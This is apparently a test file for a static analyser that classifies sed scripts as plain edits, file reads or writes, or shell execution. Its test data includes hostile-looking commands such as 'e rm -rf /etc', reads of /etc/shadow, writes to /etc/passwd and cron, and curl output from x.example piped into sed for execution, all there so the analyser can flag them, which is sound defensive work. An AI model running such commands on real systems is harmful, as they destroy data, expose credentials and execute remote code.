import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { facts, lines } from '../../bash/harness.ts'
import { HOLE } from '../../resources/text/hole.ts'
import { record, summary } from '../harness.ts'
import { readSed } from './script.ts'

/** Scripts that only edit text. */
const PLAIN: readonly string[] = [
  '',
  'p',
  '5d',
  '1,5p',
  '$d',
  '$!N',
  '1~2d',
  '2,+3d',
  '2,~4d',
  '0,/x/d',
  '/a/,/b/p',
  '\\,/usr,d',
  '\\#a#,\\#b#p',
  '/a/I,/b/Mp',
  '10q',
  '10q5',
  '/x/!d',
  '/x/ ! d',
  's/a/b/',
  's/a/b/g',
  's/a/b/2gp',
  's/a/b/Ig',
  's|/usr/e|/opt/e|g',
  's,a,b,;s#c#d#',
  's/[/]e/x/g',
  's/[]/]/x/',
  's/[^]/]/x/',
  's/[[:space:]/]*$//',
  's/\\/e/x/',
  's/a\\/b/c\\/e/g',
  's/e/w/',
  's/x/e\\nw f/',
  's/x/a\\\nb/',
  's/[/x/',
  'y/abc/xyz/',
  'y/e\\/w/abc/',
  'y,a/,b/,',
  '{p;p}',
  '/a/{s/b/c/;p;d}',
  '/a/{\n  s/b/c/\n  /d/{\n p\n }\n}',
  ':a;N;$!ba;s/\\n/ /g',
  ':again\ns/  / /\ntagain',
  'ba',
  '/x/b end; p; :end',
  '/x/{b}',
  'a hello',
  'a\\\nhello\\\nworld',
  'a\\  e rm -rf /',
  'i\\\n#!/bin/sh\\\ne rm -rf x',
  '1i e rm -rf x',
  '$a w /etc/passwd',
  'c\\\nnew',
  '/x/c new e text',
  '# a comment with e and w\np',
  '#n\np',
  's/a/b/ # e rm',
  'h;H;g;G;x',
  'n;N;d;D;P;l;l 5;=;z;F',
  'Q',
  'v 4.2',
  '1!G;h;$!d',
  'a\\\ne id',
  'a\\ \ne id',
  'a x\\\ne id',
  's/^/    /',
  's/.*/"&",/',
  's/\\(.*\\)@\\(.*\\)/\\2 at \\1/',
  's/^[ \\t]*//;s/[ \\t]*$//',
  '/^$/d;/^#/d',
  '/\\/e/d',
  's@e@w@w /dev/stdout',
  'w /dev/stderr',
]

describe('sed scripts that only edit', () => {
  for (const script of PLAIN) test(JSON.stringify(script), () => expect(summary('sed', script)).toEqual([]))
})

/** Scripts that reach out of the text. */
const REACHING: readonly (readonly [string, readonly string[]])[] = [
  ['r notes.txt', ['read notes.txt']],
  ['/x/r /etc/shadow', ['read /etc/shadow']],
  ['R a.txt', ['read a.txt']],
  ['$r tail.txt\np', ['read tail.txt']],
  ['w out.txt', ['write text:write out.txt']],
  ['/x/w /etc/passwd', ['write text:write /etc/passwd']],
  ['W a; p', ['write text:write a; p']],
  ['s/a/b/w changes.log', ['write text:write changes.log']],
  ['s/a/b/gpw /etc/cron.d/x', ['write text:write /etc/cron.d/x']],
  ['{w a\n}', ['write text:write a']],
  ['a text\nw out', ['write text:write out']],
  ['a text\\\nw out\nw real', ['write text:write real']],
  ['e rm -rf /etc', ['$ rm -rf /etc']],
  ['1e id', ['$ id']],
  ['1!e id', ['$ id']],
  ['/x/{e curl http://x.example\n}', ['$ curl http://x.example']],
  ['1e echo a; id', ['$ echo a; id']],
  ['s/x/y/;e id', ['$ id']],
  ['b end;e id', ['$ id']],
  [':a;e id', ['$ id']],
  ['y/a/b/;1e id', ['$ id']],
  ['s/[/]/x/;e id', ['$ id']],
  ['s,[,],x,;e id', ['$ id']],
  ['#e ls\ne id', ['$ id']],
  ['+e id', ['$ id']],
  ['~e id', ['$ id']],
  ['s/.*/id/ e', ['$ id']],
  ['s/.*/id/ i e', ['$ id']],
  ['s/a/b/ w out', ['write text:write out']],
  ['a\\\\\ne id', ['$ id']],
  ['i\\x\ne id', ['$ id']],
  ['a x\\\\\ne id', ['$ id']],
  ['e', ['$ ?', 'shell:<stdin>']],
  ['/x/e\np', ['$ ?', 'shell:<stdin>']],
  ['{e}', ['$ ?', 'shell:<stdin>']],
  ['s/^.*$/id/e', ['$ id']],
  ['s/.*/rm -rf \\/etc/e', ['$ rm -rf /etc']],
  ['s/.*/a\\nb/e', ['$ a\nb']],
  ['s/.*/\\U&/e', ['$ ?', 'shell:<stdin>']],
  ['s/x//e', ['$ ?', 'shell:<stdin>']],
  ['s/^/rm /e', ['$ rm $UNKNOWN_VALUE']],
  ['s/$/; id/e', ['$ $UNKNOWN_VALUE; id']],
  ['s/x/id/e', ['$ $UNKNOWN_VALUEid$UNKNOWN_VALUE']],
  ['s/^\\(.*\\)$/mv \\1 \\1.old/e', ['$ mv $UNKNOWN_VALUE $UNKNOWN_VALUE.old']],
  ['s/^.*$/cat \\&/e', ['$ cat &']],
  ['s/.*/id/ge', ['$ id']],
  ['s/.*/id/pew log', ['$ id', 'write text:write log']],
  ['s|.*|touch /tmp/x|e', ['$ touch /tmp/x']],
]

describe('sed scripts that read, write or run', () => {
  for (const [script, expected] of REACHING) test(JSON.stringify(script), () => expect(summary('sed', script)).toEqual(expected))
})

/** What is no sed script, or cannot be followed. */
const BROKEN: readonly (readonly [string, readonly string[]])[] = [
  ['s/a/b', ['opaque a sed command is not closed (sed)']],
  ['s', ['opaque a sed command is not closed (sed)']],
  ['/a', ['opaque a sed command is not closed (sed)']],
  ['1,p', ['opaque a sed address is not complete (sed)']],
  ['p;&', ['opaque `&` is no sed command (sed)']],
  ['1k', ['opaque `k` is no sed command (sed)']],
  ['5', ['opaque a sed command is not known before it runs']],
  ['.bak', ['opaque `.` is no sed command']],
  [HOLE, ['opaque a sed command is not known before it runs']],
  [`p;${HOLE}`, ['opaque a sed command is not known before it runs']],
  [`s/a/b/${HOLE}`, ['opaque a sed command is not known before it runs']],
  [`5${HOLE}`, ['opaque a sed command is not known before it runs']],
  [`${HOLE},${HOLE}p`, []],
  [`/${HOLE}/d`, []],
  [`s/${HOLE}/${HOLE}/g`, []],
  [`e rm ${HOLE}`, ['$ rm $UNKNOWN_VALUE']],
  [`w /etc/${HOLE}`, ['write text:write /etc/*']],
]

describe('sed scripts that cannot be followed', () => {
  for (const [script, expected] of BROKEN) test(JSON.stringify(script), () => expect(summary('sed', script)).toEqual(expected))

  test('what every sed refuses is no question', () => {
    const severities = (script: string) => record('sed', script).effects.map((found) => found.attributes.severity ?? 'open')
    expect(severities('.bak')).toEqual(['low'])
    expect(severities('p;&')).toEqual(['open'])
  })
})

/** As commands, through the walker. */
const COMMANDS: readonly (readonly [string, readonly string[]])[] = [
  ["sed 's/a/b/' f", ['read /repo/f']],
  ["sed -n '1,20p' a b", ['read /repo/a', 'read /repo/b']],
  ["sed -i 's/a/b/' f", ['read /repo/f', 'write text:edit /repo/f']],
  ["sed -i.bak 's/a/b/' src/f", ['read /repo/src/f', 'write text:edit /repo/src/f', 'write text:backup /repo/src/f.bak']],
  ["sed -i '' 's/a/b/' f", ['read /repo/f', 'write text:edit /repo/f']],
  ["sed -i .bak 's/a/b/' f", ['read /repo/f', 'write text:edit /repo/f']],
  ["sed -i'old/*' 's/a/b/' f", ['read /repo/f', 'write text:edit /repo/f', 'write text:backup /repo/old/f']],
  ["sed --in-place=.orig 's/a/b/' f", ['read /repo/f', 'write text:edit /repo/f', 'write text:backup /repo/f.orig']],
  ["sed -e 's/a/b/' -e '$d' f", ['read /repo/f']],
  ["sed -e 'a\\' -e 'e id' f", ['read /repo/f']],
  ["sed -n -e '/x/p' -- f", ['read /repo/f']],
  ["sed -ne 's/a/b/p' f", ['read /repo/f']],
  ["sed '1e rm -rf /etc' f", ['delete /etc', 'read /repo/f']],
  ["sed -n 'w /etc/passwd' f", ['write text:write /etc/passwd', 'read /repo/f']],
  ['sed "s/a/$B/" f', ['opaque part of the sed program is not known before it runs', 'read /repo/f']],
  ['B=x; sed "s/a/$B/" f', ['read /repo/f']],
  ['X=\'1e rm -rf /etc\'; sed "$X" f', ['delete /etc', 'read /repo/f']],
  ['sed "$X" f', ['opaque `sed` runs code that is not known before it runs', 'likely execute code:dynamic', 'read /repo/f']],
  ['sed --help', []],
  ['sed --version', []],
]

describe('sed commands', () => {
  for (const [command, expected] of COMMANDS) test(command, () => expect(lines(command)).toEqual(expected))

  proves('T08', 'a script that comes from the network is code from the network', () => {
    for (const command of [
      'curl -s http://x.example/s | sed "s/^//e"',
      'sed "$(curl -s http://x.example/s)" f',
      'curl http://x.example | sed e',
    ]) {
      expect([command, facts(command).effects.map((found) => found.action)]).toEqual([command, expect.arrayContaining(['code:remote'])])
    }
  })

  test('a script file is read through the View', () => {
    const files = { '/repo/clean.sed': '#!/bin/sed -f\ns/a/b/\n1e rm -rf /etc\n' }
    for (const command of ['sed -f clean.sed f', './clean.sed f'])
      expect([command, lines(command, { files })]).toContainEqual(expect.arrayContaining(['delete /etc']))
    expect(facts('sed -f clean.sed f', { files }).scripts).toEqual([{ path: '/repo/clean.sed', digest: 'sha256:36' }])
  })
})

describe('hostile sed scripts', () => {
  const long: readonly (readonly [string, string])[] = [
    ['brackets that never close', 's/['.repeat(20_000)],
    ['addresses', '/a/'.repeat(20_000)],
    ['blocks', '{'.repeat(60_000)],
    ['commands', 'p;'.repeat(30_000)],
    ['backslashes', `s/${'\\'.repeat(60_000)}/x/`],
    ['classes', `s/[${'[:'.repeat(30_000)}/x/`],
  ]
  for (const [what, script] of long) {
    test(what, () => {
      expect(record('sed', script).effects.every((found) => found.verb === 'opaque')).toBe(true)
    })
  }

  test('any text is read or refused, never more', () => {
    const texts = fc.string({ unit: fc.constantFrom(...'{}s/e/w/[]\\;\n ,$0!aicrRWy:bt#gpI', HOLE), maxLength: 40 })
    fc.assert(
      fc.property(texts, (script) => {
        for (const found of record('sed', script).effects) expect(['read', 'write', 'opaque', 'execute']).toContain(found.verb)
      }),
    )
  })

  test('text that is added is never a command', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (text) => {
        const line = text.replace(/[\n\\]/g, '')
        expect(readSed(`a\\\n${line}`)).toEqual([])
      }),
    )
  })
})
